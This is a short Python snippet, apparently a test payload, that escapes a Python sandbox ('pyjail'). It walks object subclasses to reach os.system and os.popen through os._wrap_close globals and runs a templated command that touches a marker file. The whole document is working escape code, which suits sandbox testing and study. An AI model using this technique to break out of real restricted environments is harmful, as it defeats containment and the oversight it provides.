# Reaches os.system via os._wrap_close.__init__.__globals__ (CVE-2025-9959 variant; classic pyjail).
for cls in object.__subclasses__():
    if cls.__name__ == "_wrap_close":
        g = cls.__init__.__globals__
        for name in ("system", "popen"):
            try:
                print(name, g[name]("touch {{MARKER}}"))
            except Exception as e:
                print(name, "->", type(e).__name__, e)
